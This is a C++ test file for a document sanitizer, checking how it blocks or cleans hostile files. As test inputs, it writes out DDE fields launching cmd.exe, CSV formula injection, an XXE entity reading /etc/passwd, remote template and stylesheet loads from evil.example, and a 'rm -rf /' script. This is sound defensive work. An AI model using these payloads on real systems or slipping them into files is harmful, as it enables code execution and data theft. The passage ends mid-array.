// Detection, names, images, text/CSV/HTML/XML and RTF: one test per rule, hostile inputs beside
// the ordinary ones.
#include <gtest/gtest.h>
#include <pugixml.hpp>

#include <zlib.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>

#include "cdr/fixtures.h"
#include "support/binhex.h"
#include "support/files.h"
#include "support/png_pixels.h"

namespace sanso::cdr {
namespace {

using fixtures::compound_file;
using fixtures::kinds;
namespace fs = std::filesystem;

CdrResult run(std::string_view bytes, std::string_view name, const CdrPolicy& policy = {}) { return sanitize(bytes, name, policy); }

TEST(CdrDetect, ExecutablesAreBlockedByContentWhateverTheirName) {
  struct Case {
    std::string bytes;
    const char* type;
  };
  std::string iso(0x8010, '\0');
  iso.replace(0x8001, 5, "CD001");
  const Case cases[] = {
      {"MZ\x90\x00\x03", "pe"},
      {"\x7F" "ELF\x02\x01", "elf"},
      {"\xCF\xFA\xED\xFE\x07", "macho"},
      {std::string("\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00", 10), "lnk"},
      {"#!/bin/sh\nrm -rf /\n", "script"},
      {"ITSF\x03\x00", "chm"},
      {"\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3 onenote", "onenote"},
      {iso, "iso"},
  };
  for (const auto& c : cases) {
    CdrResult r = run(c.bytes, "請求書.pdf");
    EXPECT_EQ(r.verdict, Verdict::blocked) << c.type;
    EXPECT_EQ(r.reason, "executable") << c.type;
    EXPECT_EQ(r.type, c.type);
  }
}

TEST(CdrDetect, DangerousExtensionsDoubleExtensionsAndDisguisingNamesAreBlocked) {
  for (const char* name : {"invoice.pdf.exe", "run.js", "a.VBS", "x.hta", "y.ps1", "z.bat", "link.lnk", "disk.iso", "note.one", "help.chm", "s.scr"}) {
    CdrResult r = run("plain text", name);
    EXPECT_EQ(r.verdict, Verdict::blocked) << name;
    EXPECT_EQ(r.reason, "executable") << name;
  }
  CdrResult rtl = run("text", "invoice\u202Efdp.exe");
  EXPECT_EQ(rtl.reason, "deceptive-name");
}

TEST(CdrDetect, NamesAreJudgedAsWindowsWillNameTheFile) {
  // Win32 drops trailing periods and spaces; "name:stream" and "::$DATA" address an NTFS stream of
  // "name". Each of these is a script once saved on Windows.
  for (const char* name : {"x.vbs.", "x.cmd ", "x.ps1::$DATA", "x.VBS . .", "x.exe:Zone.Identifier", "dir\\x.js..", "x.hta. "}) {
    CdrResult r = run("MsgBox 1\n", name);
    EXPECT_EQ(r.verdict, Verdict::blocked) << name;
    EXPECT_EQ(r.reason, "executable") << name;
  }
  // Device names open a device whatever the extension.
  for (const char* name : {"nul.txt", "CON.pdf", "com1 .csv", "Lpt9.tar.gz"}) EXPECT_EQ(run("text\n", name).reason, "deceptive-name") << name;
  EXPECT_NE(run("text\n", "console.txt").verdict, Verdict::blocked);
  // A harmless file under a name with a tail Windows ignores goes out under the name Windows uses.
  CdrResult tail = run("議事録\n", "議事録.txt. ");
  ASSERT_EQ(tail.verdict, Verdict::sanitized) << tail.message;
  EXPECT_EQ(tail.output_name, "議事録.txt");
  EXPECT_TRUE(kinds(tail).count("windows_name"));
}

TEST(CdrDetect, OnlyTypesThePolicyDeliversPassEvenAsPlainText) {
  // Each of these is text a program acts on: it connects, queries, installs or runs something.
  const std::pair<const char*, const char*> cases[] = {
      {"remote.rdp", "full address:s:203.0.113.5\r\ndrivestoredirect:s:*\r\n"},
      {"search.searchConnector-ms", "<?xml version='1.0'?><searchConnectorDescription><simpleLocation><url>\\\\evil\\share</url></simpleLocation></searchConnectorDescription>"},
      {"q.rqy", "QUERY\nCONNECTION=ODBC;DSN=x\nSQL=select 1\n"},
      {"q.dqy", "XLODBC\n1\nDSN=x\nselect 1\n"},
      {"app.appinstaller", "<?xml version='1.0'?><AppInstaller Uri='https://evil.example/a.appinstaller'/>"},
      {"box.wsb", "<Configuration><LogonCommand><Command>calc</Command></LogonCommand></Configuration>"},
      {"style.xsl", "<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:msxsl='urn:schemas-microsoft-com:xslt'><msxsl:script>new ActiveXObject('WScript.Shell')</msxsl:script></xsl:stylesheet>"},
      {"console.psc1", "<PSConsoleFile ConsoleSchemaVersion='1.0'/>"},
      {"page.shtml", "<!--#exec cmd=\"calc\" -->"},
      {"page.xht", "<html xmlns='http://www.w3.org/1999/xhtml'><body>hi</body></html>"},
      {"invite.ics", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;FMTTYPE=application/x-msdownload:TVqQAAMAAAAEAAAA\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"},
      {"made-up.qqq", "nothing special\n"},
  };
  for (const auto& [name, bytes] : cases) {
    CdrResult r = run(bytes, name);
    EXPECT_EQ(r.verdict, Verdict::blocked) << name;
    EXPECT_TRUE(r.reason == "executable" || r.reason == "extension-not-allowed") << name << ": " << r.reason;
    EXPECT_TRUE(r.output.empty()) << name;
  }
  // The same names inside an archive leave the archive; the rest is delivered under Windows' names.
  std::string zip = fixtures::make_zip({{"a.vbs.", "MsgBox 1"}, {"b.rdp", "full address:s:x"}, {"c.txt. ", "ok"}, {"sub. /d.wsb", "<Configuration/>"},
                                        {"ok.txt", "fine"}});
  CdrResult r = run(zip, "files.zip");
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  auto members = fixtures::unzip(r.output);
  EXPECT_EQ(members.size(), 2u);
  EXPECT_EQ(members.count("c.txt"), 1u);
  EXPECT_EQ(members.count("ok.txt"), 1u);
  EXPECT_TRUE(kinds(r).count("executable"));
}

TEST(CdrDetect, AnExtensionThatContradictsTheContentIsBlockedUnlessThePolicyMapsIt) {
  std::string pdf = "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj 2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj trailer << /Root 1 0 R >>\n%%EOF\n";
  CdrResult mismatch = run(pdf, "photo.jpg");
  EXPECT_EQ(mismatch.reason, "extension-mismatch");
  // An extension the engine does not know is not delivered unless the policy names it.
  CdrResult unknown_ext = run(pdf, "scan.dat");
  EXPECT_EQ(unknown_ext.reason, "extension-not-allowed");
  CdrPolicy mapped;
  mapped.extension_map["jpg"] = "pdf";
  mapped.extension_map["dat"] = "pdf";
  EXPECT_NE(run(pdf, "photo.jpg", mapped).reason, "extension-mismatch");
  CdrResult dat = run(pdf, "scan.dat", mapped);
  EXPECT_NE(dat.reason, "extension-not-allowed");
  EXPECT_NE(dat.reason, "extension-mismatch");
  CdrResult unknown = run(std::string("\x01\x02\x03\x04\x00\x00\xFF\xFE\x00\x01", 10), "data");
  EXPECT_EQ(unknown.reason, "unknown-type");
}

std::string png_of(int width, int height) { return fixtures::rgb_png(static_cast<unsigned>(width), static_cast<unsigned>(height), 0, 0, 0); }

TEST(CdrImage, TrailingDataAndPolyglotsAreDropped) {
  internal::prepare_images();
  std::string png = png_of(16, 16);
  std::string polyglot = png + fixtures::make_zip({{"payload.js", "alert(1)"}});
  CdrResult r = run(polyglot, "photo.png");
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("trailing_data"));
  EXPECT_EQ(r.output.find("payload"), std::string::npos);
  EXPECT_EQ(r.output.substr(0, 8), "\x89PNG\r\n\x1A\n");
  EXPECT_EQ(run(r.output, "photo.png").verdict, Verdict::clean);
}

TEST(CdrImage, AHugePixelCountIsBlockedBeforeDecoding) {
  // A PNG header claiming 100,000 × 100,000 pixels, with a valid CRC and almost no data.
  std::string ihdr = "IHDR";
  auto be32 = [](unsigned v) { return std::string{static_cast<char>(v >> 24), static_cast<char>(v >> 16), static_cast<char>(v >> 8), static_cast<char>(v)}; };
  ihdr += be32(100000) + be32(100000) + std::string("\x08\x02\x00\x00\x00", 5);
  unsigned long crc = crc32(0, reinterpret_cast<const Bytef*>(ihdr.data()), static_cast<uInt>(ihdr.size()));
  std::string png = std::string("\x89PNG\r\n\x1A\n", 8) + be32(13) + ihdr + be32(static_cast<unsigned>(crc));
  std::string row(16, '\0');
  std::string idat = "IDAT" + fixtures::deflate_raw(row);
  png += be32(static_cast<unsigned>(idat.size() - 4)) + idat + be32(static_cast<unsigned>(crc32(0, reinterpret_cast<const Bytef*>(idat.data()), static_cast<uInt>(idat.size()))));
  std::string iend = "IEND";
  png += be32(0) + iend + be32(static_cast<unsigned>(crc32(0, reinterpret_cast<const Bytef*>(iend.data()), 4)));
  CdrResult r = run(png, "bomb.png");
  EXPECT_EQ(r.verdict, Verdict::blocked);
  EXPECT_EQ(r.reason, "limit");
}

TEST(CdrImage, AChunkLongerThanTheFileIsMalformedNotA2GiBAllocation) {
  // Found by fuzzing: libpng allocates a chunk's declared length before reading it.
  std::string png = sanso::testing::read_file(fs::path(SANSO_SOURCE_DIR) / "fuzz/cdr/corpus/oom-png-chunk-length.png");
  ASSERT_FALSE(png.empty());
  CdrResult r = run(png, "a.png");
  EXPECT_EQ(r.verdict, Verdict::blocked);
  EXPECT_EQ(r.reason, "malformed");
}

TEST(CdrImage, BmpIsRebuiltAsPngAndGarbageIsMalformed) {
  // A 2 × 2, 24-bit BMP, bottom-up rows padded to four bytes, with 6 bytes appended after it.
  fixtures::Bytes b;
  b.raw("BM").u32(54 + 16).u32(0).u32(54).u32(40).u32(2).u32(2).u16(1).u16(24).u32(0).u32(16).u32(2835).u32(2835).u32(0).u32(0);
  b.raw(std::string("\x00\x00\xFF\x00\xFF\x00\x00\x00", 8)).raw(std::string("\xFF\x00\x00\xFF\xFF\xFF\x00\x00", 8));
  CdrResult r = run(b.s, "scan.bmp");
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_EQ(r.output_name, "scan.png");
  EXPECT_EQ(kinds(r), std::set<std::string>{"image_converted"});
  auto png = sanso::testing::read_png(r.output);
  ASSERT_TRUE(png.has_value());
  EXPECT_EQ(png->width, 2u);
  EXPECT_EQ(png->height, 2u);
  const auto top_left = png->at(0, 0);
  EXPECT_EQ(top_left[0], 0);  // the top row is stored last: blue, then white
  EXPECT_EQ(top_left[2], 255);
  EXPECT_EQ(run(b.s, "scan.bmp").output, r.output);  // the same bytes every time

  // The header's size is judged before ImageMagick reads a pixel: 100,000 × 100,000.
  fixtures::Bytes bomb;
  bomb.raw("BM").u32(54 + 16).u32(0).u32(54).u32(40).u32(100000).u32(100000).u16(1).u16(24).u32(0).u32(16).u32(2835).u32(2835).u32(0).u32(0);
  bomb.raw(std::string(16, '\0'));
  EXPECT_EQ(run(bomb.s, "bomb.bmp").reason, "limit");
  fixtures::Bytes truncated;
  truncated.raw("BM").u32(54 + 4000).u32(0).u32(54).u32(40).u32(40).u32(40).u16(1).u16(24).u32(0).u32(4000).u32(0).u32(0).u32(0).u32(0);
  EXPECT_EQ(run(truncated.s, "cut.bmp").reason, "malformed");

  CdrResult broken = run("\xFF\xD8\xFF\xE0 not really a jpeg", "a.jpg");
  EXPECT_EQ(broken.verdict, Verdict::blocked);
  EXPECT_EQ(broken.reason, "malformed");
}

// The image engine's process holds no copyleft library: libvips (which Debian links with FFTW,
// GPL) is gone, ImageMagick with it, libtiff (linked with JBIG-KIT, GPL) is a separate program's,
// and Poppler is only ever a separate process.
TEST(CdrImage, NoCopyleftLibraryIsMappedIntoTheEngine) {
  internal::prepare_images();
  CdrResult r = run(std::string("BM") + std::string(60, '\0'), "x.bmp");  // the BMP module, loaded
  (void)r;
  std::ifstream maps("/proc/self/maps");
  std::string line, loaded;
  while (std::getline(maps, line)) {
    if (line.find(".so") != std::string::npos) loaded += line.substr(line.find_last_of(' ') + 1) + "\n";
  }
  EXPECT_NE(loaded.find("libpixbufloader-bmp.so"), std::string::npos) << loaded;
  for (const char* unwanted : {"libfftw3", "libvips", "libMagick", "libpoppler", "libcfitsio", "libmatio", "libhdf5", "libopenslide", "libgs.so", "libmupdf",
                               "libjbig", "libtiff"}) {
    EXPECT_EQ(loaded.find(unwanted), std::string::npos) << unwanted << " is mapped:\n" << loaded;
  }
}

TEST(CdrImage, SvgWithScriptOrExternalReferencesIsBlockedOtherwiseRendered) {
  internal::prepare_images();
  EXPECT_EQ(run("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "a.svg").reason, "active-content");
  EXPECT_EQ(run("<svg xmlns='http://www.w3.org/2000/svg'><rect onload='x()' width='1' height='1'/></svg>", "a.svg").reason, "active-content");
  EXPECT_EQ(run("<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='file:///etc/passwd'/></svg>", "a.svg").reason,
            "active-content");
  CdrResult ok = run("<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><rect width='10' height='10' fill='blue'/></svg>", "logo.svg");
  ASSERT_EQ(ok.verdict, Verdict::sanitized) << ok.message;
  EXPECT_EQ(ok.output_name, "logo.png");
}

TEST(CdrText, CsvFormulaCellsAreNeutralisedAndNumbersKept) {
  std::string csv = "名前,式,値,引用\r\n山田,=HYPERLINK(\"http://evil\"),-12.5,\"=1+1\"\r\n田中,@SUM(A1),+81,\"普通\"\r\n";
  CdrResult r = run(csv, "一覧.csv");
  ASSERT_EQ(r.verdict, Verdict::sanitized);
  EXPECT_EQ(r.output, "名前,式,値,引用\r\n山田,'=HYPERLINK(\"http://evil\"),-12.5,\"'=1+1\"\r\n田中,'@SUM(A1),+81,\"普通\"\r\n");
  EXPECT_TRUE(kinds(r).count("formula_injection"));
  CdrPolicy bom;
  bom.csv_bom = true;
  EXPECT_EQ(run("a,b\n", "x.csv", bom).output, "\xEF\xBB\xBF" "a,b\n");
  EXPECT_EQ(run("a\t=cmd\n", "x.tsv").output, "a\t'=cmd\n");
}

// UTF-16 LE with its BOM, as Excel saves SpreadsheetML.
std::string utf16le(const std::string& ascii) {
  std::string out("\xFF\xFE", 2);
  for (char c : ascii) out += std::string{c, '\0'};
  return out;
}

TEST(CdrText, MarkupIsFoundWhereverItIsAndWhateverItsPrefixOrEncoding) {
  const std::string padding(8192, ' ');
  struct Case {
    std::string bytes;
    const char* name;
    const char* reason;
  };
  const Case cases[] = {
      // Excel opens this .xml as a workbook (with DDE formulas and all): it is not plain text.
      {utf16le("<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\">"
               "<Worksheet><Table><Row><Cell ss:Formula=\"=cmd|' /C calc'!A0\"/></Row></Table></Worksheet></Workbook>"),
       "data.xml", "unsupported"},
      {"notes\n" + padding + "<office:document xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\"><office:scripts/></office:document>", "a.txt",
       "unsupported"},
      {"plain words\n" + padding + "<HTA:APPLICATION/><script>new ActiveXObject('WScript.Shell').Run('calc')</script>", "readme.txt", "active-content"},
      {padding + "<package><job><script language=\"JScript\">WScript.Echo(1)</script></job></package>", "list.txt", "active-content"},
      {"<?xml version='1.0'?><x:html xmlns:x='http://www.w3.org/1999/xhtml'><x:body><x:script>steal()</x:script></x:body></x:html>", "page.xml",
       "active-content"},
      {"<q:svg xmlns:q='http://www.w3.org/2000/svg'><q:script>alert(1)</q:script></q:svg>", "logo.svg", "active-content"},
      {"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://evil.example/x.xsl'?><doc/>", "a.xml", "active-content"},
      {"<r xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'/></r>", "b.xml", "active-content"},
  };
  for (const auto& c : cases) {
    CdrResult r = run(c.bytes, c.name);
    EXPECT_EQ(r.verdict, Verdict::blocked) << c.name << ": " << c.bytes.substr(0, 80);
    EXPECT_EQ(r.reason, c.reason) << c.name << ": " << r.message;
  }
  // Ordinary text and XML stay what they are.
  EXPECT_EQ(run("見積の件、了解しました。\n", "memo.txt").verdict, Verdict::clean);
  EXPECT_EQ(run("<?xml version='1.0'?><list><item>1</item></list>", "list.xml").verdict, Verdict::clean);
  EXPECT_NE(run(utf16le("hello\r\n"), "hello.txt").verdict, Verdict::blocked);
}

TEST(CdrText, CsvDialectIsReadAsExcelReadsIt) {
  // Excel ends rows at a lone CR too: the formula after it starts a row.
  EXPECT_EQ(run("a,b\r=cmd|' /C calc'!A0,x\r", "x.csv").output, "a,b\r'=cmd|' /C calc'!A0,x\r");
  // A first line "sep=;" makes ';' the delimiter, whatever the extension says.
  CdrResult sep = run("sep=;\r\n名前;=HYPERLINK(\"http://evil\")\r\n1;@SUM(A1)\n", "x.csv");
  EXPECT_EQ(sep.output, "sep=;\r\n名前;'=HYPERLINK(\"http://evil\")\r\n1;'@SUM(A1)\n");
  EXPECT_TRUE(kinds(sep).count("formula_injection"));
  // CRLF stays one line end; a harmless file stays as it was.
  CdrResult plain = run("a,b\r\n1,2\r\n", "x.csv");
  EXPECT_EQ(plain.verdict, Verdict::clean);
  EXPECT_EQ(plain.output, "a,b\r\n1,2\r\n");
}

TEST(CdrText, JapaneseEncodingsBecomeUtf8AndNulsGo) {
  CdrResult sjis = run("\x8E\x73\x96\xF0\x8F\x8A\x0A", "memo.txt");  // 市役所 in CP932
  ASSERT_EQ(sjis.verdict, Verdict::sanitized);
  EXPECT_EQ(sjis.output, "市役所\n");
  EXPECT_TRUE(kinds(sjis).count("charset_converted"));
  CdrResult plain = run("そのまま\n", "a.txt");
  EXPECT_EQ(plain.verdict, Verdict::clean);
  EXPECT_EQ(plain.output, "そのまま\n");
}

// tnef21's finding: a program uuencoded (or BinHex, yEnc) into a .txt passed as text, into LGWAN —
// mail clients and a clerk's uudecode turn it back into the file. Cut out, as from a mail body.
TEST(CdrText, FilesWrittenIntoATextFileAreCutOut) {
  const std::string uu = "begin 644 setup.exe\n"
                         "M35J0``,````$````__\\``+@`````````0```````````````````````````\n"
                         "`\nend\n";
  const std::string binhex = "(This file must be converted with BinHex 4.0)\n:$f*TEQKPH#jdCA0d,R0TG!\"6594%8dP8)3#3\"!!!!!!!!!:\n";
  for (const std::string& block : {uu, binhex}) {
    CdrResult r = run("手順:\n" + block + "以上\n", "readme.txt");
    ASSERT_EQ(r.verdict, Verdict::sanitized) << r.reason << ": " << r.message;
    EXPECT_TRUE(kinds(r).count("embedded_file")) << block;
    EXPECT_EQ(r.output.find("M35J0"), std::string::npos) << r.output;
    EXPECT_EQ(r.output.find("$f*TEQ"), std::string::npos) << r.output;
    EXPECT_EQ(r.output.rfind("手順:\n[テキストに埋め込まれたファイル ", 0), 0u) << r.output;
    EXPECT_NE(r.output.find("以上\n"), std::string::npos) << r.output;
  }
  CdrResult plain = run("begin the meeting at 10\nend\n", "memo.txt");
  EXPECT_EQ(plain.verdict, Verdict::clean) << "a line that only starts like a block is text";
  // review21b 11: in HTML (what it becomes as text) and XML (refused: cut lines could break it) too.
  CdrResult html = run("<html><body><pre>" + uu + "</pre><p>以上</p></body></html>", "page.html");
  ASSERT_EQ(html.verdict, Verdict::sanitized) << html.reason << ": " << html.message;
  EXPECT_TRUE(kinds(html).count("embedded_file"));
  EXPECT_EQ(html.output.find("M35J0"), std::string::npos) << html.output;
  CdrResult xml = run("<?xml version=\"1.0\"?>\n<r><![CDATA[\n" + uu + "]]></r>\n", "data.xml");
  EXPECT_EQ(xml.verdict, Verdict::blocked);
  EXPECT_NE(xml.message.find("written into its text"), std::string::npos) << xml.message;
}

// Issue #17 (review21b 9, 10): what decoders take, not only the usual form — a one-digit mode, an
// old Mac's CR-only lines, a short BinHex line without its banner — is cut out of a text file; a
// Japanese memo with colons and smileys stays as it is.
TEST(CdrText, FilesWrittenAsDecodersAcceptThemAreCutOut) {
  const std::string mac = "手順:\rbegin 7 setup.exe\rM35J0``,````$````__\\``+@`````````0```````````````````````````\r`\rend\r以上\r";
  const std::string short_binhex = "手順:\n" + sanso::testing::binhex("a.exe", "MZ", "", true, 0) + "\n以上\n";
  for (const std::string& text : {mac, short_binhex}) {
    CdrResult r = run(text, "readme.txt");
    ASSERT_EQ(r.verdict, Verdict::sanitized) << r.reason << ": " << r.message;
    EXPECT_TRUE(kinds(r).count("embedded_file")) << text;
    EXPECT_NE(r.output.find("以上"), std::string::npos) << r.output;
    EXPECT_EQ(r.output.find("M35J0"), std::string::npos) << r.output;
  }
  CdrResult prose = run("議題：予算:)\n時間: 10:30〜11:00 :-)\n場所:本庁舎:3階\nbegin 2 weeks later\n", "memo.txt");
  EXPECT_EQ(prose.verdict, Verdict::clean) << prose.reason << ": " << prose.message;
}

TEST(CdrText, XmlWithEntitiesAndHtmlWithScriptAreBlockedPlainHtmlBecomesText) {
  EXPECT_EQ(run("<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "a.xml").reason, "active-content");
  EXPECT_EQ(run("<html><body><script>steal()</script></body></html>", "a.html").reason, "active-content");
  EXPECT_EQ(run("<html><body><img src=x onerror=steal()></body></html>", "a.html").reason, "active-content");
  EXPECT_EQ(run("<html><body><form action='http://phish'><input></form></body></html>", "a.html").reason, "active-content");
  CdrResult ok = run("<html><body><h1>お知らせ</h1><p>本文</p></body></html>", "notice.html");
  ASSERT_EQ(ok.verdict, Verdict::sanitized) << ok.message;
  EXPECT_EQ(ok.output_name, "notice.txt");
  EXPECT_NE(ok.output.find("お知らせ"), std::string::npos);
  EXPECT_EQ(ok.output.find('<'), std::string::npos);
}

TEST(CdrRtf, ObjectsKeepTheirPictureDangerousFieldsKeepTheirTextTemplatesGo) {
  std::string rtf =
      "{\\rtf1\\ansi{\\*\\template http://evil.example/t.dot}"
      "{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}{\\result {\\pict PICTURE}}}"
      "{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}{\\fldrslt 表示}}"
      "{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}"
      "{\\*\\objdata 01050000}"
      "{\\pict\\bin4 {}}}end}"
      "}";
  CdrResult r = run(rtf, "a.rtf");
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  auto k = kinds(r);
  EXPECT_TRUE(k.count("rtf_object"));
  EXPECT_TRUE(k.count("dde_field"));
  EXPECT_TRUE(k.count("external_template"));
  for (const char* gone : {"objdata", "objclass", "DDEAUTO", "evil.example", "\\object"}) EXPECT_EQ(r.output.find(gone), std::string::npos) << gone;
  EXPECT_NE(r.output.find("PICTURE"), std::string::npos);
  EXPECT_NE(r.output.find("表示"), std::string::npos);
  EXPECT_NE(r.output.find("fldinst PAGE"), std::string::npos);
  EXPECT_NE(r.output.find("\\bin4 {}}"), std::string::npos) << "binary data with braces is copied as data";
  EXPECT_EQ(run(r.output, "a.rtf").verdict, Verdict::clean);
  CdrResult open = run("{\\rtf1 {\\b unclosed", "b.rtf");
  EXPECT_EQ(open.verdict, Verdict::blocked);
  EXPECT_EQ(open.reason, "malformed");
}

using fixtures::word_streams;

// The engine's own reading of legacy files (conversion, the default, comes after it).
CdrResult inspect(const std::string& bytes, std::string_view name) {
  CdrPolicy policy;
  policy.convert_legacy = false;
  return run(bytes, name, policy);
}

TEST(CdrLegacyOffice, StorageNamesCompareCaseInsensitively) {
  const auto [word, table] = word_streams("Hello\r");
  EXPECT_EQ(inspect(compound_file({{"WordDocument", word}, {"1Table", table}}), "a.doc").verdict, Verdict::clean);
  const std::vector<std::pair<std::string, std::vector<std::pair<std::string, std::string>>>> hostile = {
      {"a.doc", {{"WordDocument", word}, {"1Table", table}, {"macros/vba/dir", "x"}, {"macros/PROJECT", "ID=\"{0}\""}}},
      {"b.doc", {{"WordDocument", word}, {"1Table", table}, {"objectpool/_1234/\x01ole10native", "payload"}}},
      {"c.xls", {{"workbook", std::string("\x09\x08\x00\x00", 4)}, {"_vba_project_cur/vba/dir", "x"}}},
      {"d.xls", {{"Workbook", std::string("\x09\x08\x00\x00", 4)}, {"mbd0001/contents", "payload"}}},
  };
  for (const auto& [name, streams] : hostile) {
    CdrResult r = inspect(compound_file(streams), name);
    EXPECT_EQ(r.verdict, Verdict::blocked) << name;
    EXPECT_EQ(r.reason, "active-content") << name;
  }
}

TEST(CdrLegacyOffice, DdeLinksInXlsAndDdeBuiltByNestedQuoteInDocAreFound) {
  fixtures::Bytes clean_book, dde_book;
  clean_book.u16(0x0809).u16(4).u32(0).u16(0x01AE).u16(4).u16(1).u16(0x0401).u16(0x000A).u16(0);  // BOF, SUPBOOK (self), EOF
  EXPECT_EQ(inspect(compound_file({{"Workbook", clean_book.s}}), "a.xls").verdict, Verdict::clean);
  // SUPBOOK of a DDE server ("cmd" \x03 "/c calc") and its EXTERNNAME with fOleLink.
  const std::string server = std::string("\x00", 1) + "cmd\x03/c calc";
  dde_book.u16(0x0809).u16(4).u32(0).u16(0x01AE).u16(static_cast<unsigned>(4 + server.size())).u16(0).u16(static_cast<unsigned>(server.size() - 1)).raw(server);
  dde_book.u16(0x0023).u16(8).u16(0x0010).u32(0).u16(0).u16(0x000A).u16(0);
  CdrResult xls = inspect(compound_file({{"Workbook", dde_book.s}}), "dde.xls");
  EXPECT_EQ(xls.verdict, Verdict::blocked);
  EXPECT_TRUE(kinds(xls).count("external_link"));

  const auto [plain_word, plain_table] = word_streams("Page \x13PAGE\x14 1\x15\r");
  EXPECT_EQ(inspect(compound_file({{"WordDocument", plain_word}, {"1Table", plain_table}}), "a.doc").verdict, Verdict::clean);
  // { {QUOTE 68 68 69 65 85 84 79} c:\\windows\\system32\\cmd.exe "/k calc" }: Word updates the
  // inner field and runs the DDEAUTO it spells.
  const auto [word, table] = word_streams("\x13 \x13QUOTE 68 68 69 65 85 84 79\x15 c:\\windows\\system32\\cmd.exe \"/k calc\" \x14\x15\r");
  CdrResult doc = inspect(compound_file({{"WordDocument", word}, {"1Table", table}}), "quote.doc");
  EXPECT_EQ(doc.verdict, Verdict::blocked);
  EXPECT_TRUE(kinds(doc).count("dde_field"));
  // A keyword computed by a nested field of any kind cannot be judged before Word runs it.
  const auto [if_word, if_table] = word_streams("\x13\x13IF 1 = 1 \"DDE\" \"\"\x14\x15 cmd \x14\x15\r");
  EXPECT_TRUE(kinds(inspect(compound_file({{"WordDocument", if_word}, {"1Table", if_table}}), "if.doc")).count("dde_field"));
}

// Binary Office is converted by default; where the converter is missing, legacy files are
// blocked with the reason, clean or not — never passed as they came.
TEST(CdrLegacyOffice, ConvertedByDefaultAndBlockedWithoutTheConverter) {
  EXPECT_TRUE(CdrPolicy{}.convert_legacy);
  const auto [word, table] = word_streams("Hello\r");
  const std::string doc = compound_file({{"WordDocument", word}, {"1Table", table}});
  CdrPolicy missing;
  missing.libreoffice = "/nonexistent/soffice.bin";
  EXPECT_TRUE(check_converters(missing).has_value()) << "legacy conversion alone is no start-up requirement";
  CdrResult r = sanitize_sandboxed(doc, "minutes.doc", missing);
  EXPECT_EQ(r.verdict, Verdict::blocked);
  EXPECT_EQ(r.reason, "unsupported");
  EXPECT_NE(r.message.find("LibreOffice"), std::string::npos) << r.message;
  EXPECT_TRUE(r.output.empty());
  // In-process, where no converter may run, the same file is not passed either.
  EXPECT_EQ(run(doc, "minutes.doc").verdict, Verdict::blocked);
}

// Hostile RTF where the destination is not where a fixed-position scanner looks: each hides
// something Word acts on, and keeps a marker ("SAFEn") of text that must survive.
struct RtfCase {
  std::string rtf;
  const char* finding;  // "" when the only change is a destination left out silently
  std::vector<const char*> gone;
};
std::string hex_of(const std::string& bytes) {
  static const char kDigits[] = "0123456789abcdef";
  std::string out;
  for (unsigned char c : bytes) {
    out.push_back(kDigits[c >> 4]);
    out.push_back(kDigits[c & 15]);
  }
  return out;
}

const std::vector<RtfCase>& hostile_rtf() {
  static const std::vector<RtfCase> cases = {
      {"{\\rtf1{\\field{\\*\\fldinst \\u68?\\u68?\\u69?\\u65?\\u85?\\u84?\\u79? c:\\\\windows\\\\system32\\\\cmd.exe}{\\fldrslt SAFE1}}}", "dde_field", {"cmd.exe", "u68"}},
      {"{\\rtf1{{\\*\\foo bar}\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}{\\fldrslt SAFE2}}}", "dde_field", {"cmd.exe", "DDE"}},
      {"{\\rtf1{ \\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}{\\fldrslt SAFE3}}}", "dde_field", {"cmd.exe", "DDE"}},
      {"{\\rtf1{\\f0\\b\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}{\\fldrslt SAFE4}}}", "dde_field", {"cmd.exe", "DDE"}},
      {"{\\rtf1{\\field{\\*\\fldinst PAGE}{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}{\\fldrslt SAFE5}}}", "rtf_field", {"cmd.exe", "DDE"}},
      {"{\\rtf1{ \\*\\objdata 0105000002000000}SAFE6}", "rtf_object", {"0105", "objdata"}},
      {"{\\rtf1{ \\*\\template http://evil.example/t.dot}SAFE7}", "external_template", {"evil", "template"}},
      {"{\\rtf1{\\pict{\\*\\picprop{\\sp{\\sn pibName}{\\sv http://evil.example/a.png}}{\\sp{\\sn pibFlags}{\\sv 10}}}\\pngblip\\picw1\\pich1 " +
           hex_of(fixtures::rgb_png(1, 1, 0, 0, 0)) + "}SAFE8}",
       "external_relationship", {"evil", "pibName"}},
      {"{\\rtf1{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 68 69 65 85 84 79}{\\fldrslt }} c:\\\\cmd.exe}{\\fldrslt SAFE9}}}", "dde_field", {"cmd.exe", "QUOTE"}},
      {"{\\rtf1{\\*\\evilnew payload-xyz}SAFE10}", "", {"payload-xyz", "evilnew"}},
